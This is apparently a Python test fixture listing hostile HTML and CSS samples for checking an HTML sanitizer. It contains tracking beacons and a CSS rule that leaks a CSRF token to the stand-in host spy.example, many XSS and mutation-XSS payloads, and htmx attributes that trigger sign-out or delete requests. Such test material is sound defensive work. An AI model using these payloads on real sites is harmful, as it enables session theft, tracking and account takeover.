"""Pages that call home, run, take over ours, or turn into something else when they are cleaned."""

from tests.hostile.family import Hostile, page

SPY = "https://spy.example"

CALLS_HOME = {
    "image": f'<img src="{SPY}/1.gif">',
    "image without a scheme": '<img src="//spy.example/2.gif">',
    "image in capitals": f'<IMG SRC="{SPY}/3.gif">',
    "image set": f'<img srcset="{SPY}/4.gif 1x, {SPY}/5.gif 2x" src="x.gif">',
    "lazy image": f'<img loading="lazy" src="{SPY}/6.gif" width="1" height="1">',
    "picture": f'<picture><source srcset="{SPY}/7.webp"><img src="x"></picture>',
    "style sheet": f'<link rel="stylesheet" href="{SPY}/8.css">',
    "prefetch": f'<link rel="dns-prefetch" href="{SPY}"><link rel="preload" href="{SPY}/9">',
    "icon": f'<link rel="icon" href="{SPY}/10.ico">',
    "object": f'<object data="{SPY}/11.swf"><p>fallback</p></object>',
    "embed": f'<embed src="{SPY}/12.swf">',
    "frame": f'<iframe src="{SPY}/13"></iframe>',
    "frame with a page": "<iframe srcdoc=\"<img src='https://spy.example/14.gif'>\"></iframe>",
    "frame set": f'<frameset><frame src="{SPY}/15"></frameset>',
    "video": f'<video src="{SPY}/16.mp4" poster="{SPY}/17.gif" autoplay></video>',
    "audio": f'<audio src="{SPY}/18.mp3" autoplay></audio>',
    "track": f'<video><track src="{SPY}/19.vtt" default></video>',
    "background": f'<table background="{SPY}/20.gif"><tr><td>x</td></tr></table>',
    "body background": f'<body background="{SPY}/21.gif">',
    "input image": f'<input type="image" src="{SPY}/22.gif">',
    "svg use": f'<svg><use href="{SPY}/23.svg#a"/></svg>',
    "svg image": f'<svg><image xlink:href="{SPY}/24.gif"/></svg>',
    "svg feimage": f'<svg><filter><feImage href="{SPY}/25.gif"/></filter></svg>',
    "meta refresh": f'<meta http-equiv="refresh" content="0; url={SPY}/26">',
    "form": f'<form action="{SPY}/27"><input name="a"><button>Go on</button></form>',
    "form action of a button": f'<button formaction="{SPY}/28" form="reply">Send</button>',
    "base": f'<base href="{SPY}/"><img src="29.gif"><a href="/desk/">x</a>',
    "ping": f'<a href="https://acme.example" ping="{SPY}/30">x</a>',
    "manifest": f'<html manifest="{SPY}/31">',
    "longdesc": f'<img longdesc="{SPY}/32" src="x" alt="y">',
    "cite": f'<blockquote cite="{SPY}/33">x</blockquote><q cite="{SPY}/34">y</q>',
    "import map": f'<script type="importmap">{{"imports": {{"a": "{SPY}/35.js"}}}}</script>',
    "cid with a host": f'<img src="cid:{SPY}/36.gif">',
}
STYLES = {
    "background": f"body {{ background: url({SPY}/c1) }}",
    "import": f"@import url('{SPY}/c2.css');",
    "font": f"@font-face {{ font-family: x; src: url({SPY}/c3) }} * {{ font-family: x }}",
    "attribute by letter": f"input[name=csrf][value^=a] {{ background: url({SPY}/c4) }}",
    "escaped": r"body { background: u\72l(https://spy.example/c5) }",
    "list": f"li {{ list-style-image: url({SPY}/c6) }}",
    "content": f"p::before {{ content: url({SPY}/c7) }}",
    "cursor": f"* {{ cursor: url({SPY}/c8), auto }}",
    "variable": f":root {{ --x: url({SPY}/c9) }} p {{ background: var(--x) }}",
    "over the page": "div { position: fixed; inset: 0; z-index: 99999; background: #fff }",
    "hides": "* { display: none !important }",
    "unicode range": f"@font-face {{ font-family: p; unicode-range: U+41; src: url({SPY}/ca) }}",
}
RUNS = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": f"<script src={SPY}/s.js></script>",
    "module": f'<script type="module">import "{SPY}/m.js"</script>',
    "image fault": '<img src=x onerror="alert(1)">',
    "body load": '<body onload="alert(1)">',
    "focus": '<input autofocus onfocus="alert(1)">',
    "details": '<details open ontoggle="alert(1)">x</details>',
    "marquee": '<marquee onstart="alert(1)">x</marquee>',
    "animation": '<p style="animation: a 1s" onanimationstart="alert(1)">x</p>',
    "pointer": '<p onpointerover="alert(1)" onclick="alert(2)">x</p>',
    "slashes": '<img/src=x/onerror="alert(1)">',
    "new line": '<img src=x\nonerror\n=\n"alert(1)">',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript in pieces": '<a href="java\tscr\nipt:alert(1)">x</a>',
    "javascript in entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "javascript after a space": '<a href=" &#1; javascript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data frame": '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "svg load": '<svg onload="alert(1)"></svg>',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animation": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a>',
    "svg foreign": '<svg><foreignObject><body onload="alert(1)"></foreignObject></svg>',
    "svg as data": "<img src=\"data:image/svg+xml,<svg xmlns='x' onload='alert(1)'/>\">",
    "math link": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "is": '<p is="x-y" onclick="alert(1)">x</p>',
    "conditional": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "processing": "<?xml version='1.0'?><?php echo 1 ?>",
    "xss by charset": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}
TAKES_OVER = {
    "hx-get": f'<div hx-get="{SPY}/h1" hx-trigger="load">x</div>',
    "hx-post": '<div hx-post="/desk/sign-out" hx-trigger="load">x</div>',
    "data-hx-get": f'<div data-hx-get="{SPY}/h2" data-hx-trigger="load">x</div>',
    "hx-on": '<div hx-on::load="alert(1)" hx-on:click="alert(2)">x</div>',
    "hx-boost": '<div hx-boost="true"><a href="/desk/">x</a></div>',
    "hx-swap-oob": '<div id="ticket" hx-swap-oob="true">taken over</div>',
    "hx-vals": "<div hx-vals='js:{a: alert(1)}' hx-get='/desk/'>x</div>",
    "hx-headers": "<div hx-headers='{\"x\": 1}' hx-delete='/desk/'>x</div>",
    "hx-ext": f'<div hx-ext="sse" sse-connect="{SPY}/h3">x</div>',
    "own keys": '<a href="/desk/sign-out" data-key="r" data-key-name="Reply">x</a>',
    "own names": '<form name="body"><input name="action" id="reply"></form><p id="main">x</p>',
    "own classes": '<p class="entry entry--ours" data-own data-row>We gave you a refund.</p>',
    "fake end": "</p></div></li></ol></main><main><h1>Signed out</h1>",
    "fake end of a text": "</textarea></script></style></title></template><h1>Signed out</h1>",
    "dialog": "<dialog open>Your password, please</dialog>",
    "popover": '<button popovertarget="p">x</button><p popover id="p">y</p>',
    "accesskey": '<a href="/desk/sign-out" accesskey="r" tabindex="1">x</a>',
    "content editable": '<p contenteditable autofocus>x</p><p draggable="true">y</p>',
}
MUTATES = {
    "style in svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "noscript title": '<noscript><style></noscript><img src=x onerror="alert(1)"></style>',
    "math mtext": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "form in form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "select": "<select><template><img src=x onerror=alert(1)></template></select>",
    "xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "plaintext": "<p>x</p><noembed><img src=x onerror=alert(1)></noembed>",
    "comment": "<!--><img src=x onerror=alert(1)>--!><!---!><script>alert(1)</script>-->",
    "cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "annotation": (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>'
    ),
    "desc": "<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>",
    "title in svg": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "frameset": "<p>x<frameset onload=alert(1)>",
    "unfinished tag": "<p>x</p><b",
    "double entity": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "nul in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt><im\x00g src=x onerror=alert(1)>",
    "half brackets": "<<script>alert(1);//<</script>",
    "full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
}


def families() -> list[Hostile]:
    """Return every page, by the name of its family and its own."""
    styles = {
        f"{name} in {where}": tag.format(style)
        for name, style in STYLES.items()
        for where, tag in (("a sheet", "<style>{}</style>"),)
    }
    inline = {
        "style attribute": f'<p style="background: url({SPY}/i1)">x</p>',
        "style attribute escaped": r'<p style="background: \75rl(https://spy.example/i2)">x</p>',
        "style over the page": '<div style="position:fixed;inset:0;z-index:9999">x</div>',
    }
    named = {
        "calls home": CALLS_HOME,
        "style": styles | inline,
        "runs": RUNS,
        "takes over": TAKES_OVER,
        "mutates": MUTATES,
    }
    return [
        page(f"{family}, {name}", html)
        for family, pages in named.items()
        for name, html in pages.items()
    ]
